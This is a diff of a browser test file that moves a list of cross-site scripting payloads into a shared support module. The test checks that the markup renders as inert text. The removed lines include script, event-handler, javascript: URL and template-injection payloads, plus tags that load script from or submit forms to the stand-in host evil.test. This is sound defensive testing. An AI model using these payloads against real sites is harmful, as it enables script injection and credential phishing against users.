@@ -1,6 +1,7 @@
 // What agents, logs and people write may be anything: none of it runs, steers the page, or hides.
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, expect, test } from 'vitest';
+import { ATTACKS } from '../tests/support/attacks.ts';
 import { openPage, startChromium } from '../tests/support/console-browser.ts';
 import { type ConsoleWorld, openConsoleWorld } from '../tests/support/console-world.ts';
 import { withTemporal } from '../tests/support/play-campaign.ts';
@@ -18,18 +19,6 @@ afterAll(async () => {
   await browser?.close();
   await world?.close();
 });
-
-const ATTACKS = [
-  '<script>window.hit = 1</script>',
-  '"><img src=x onerror="window.hit = 2">',
-  "' onmouseover='window.hit = 3' x='",
-  '</textarea><svg onload=window.hit=4>',
-  '</title><script src="//evil.test/x.js"></script>',
-  'javascript:window.hit=5',
-  '{{constructor.constructor("window.hit=7")()}}',
-  '<a href="javascript:window.hit=8">x</a><form action="//evil.test"><button>Sign and send</button></form>',
-  '<base href="//evil.test/"><meta http-equiv="refresh" content="0;url=//evil.test"><style>*{display:none}</style>',
-];
 
 test('markup in every text of a gate is text: nothing runs, and the policy had nothing to refuse', async () => {
   const all = ATTACKS.join(' ');
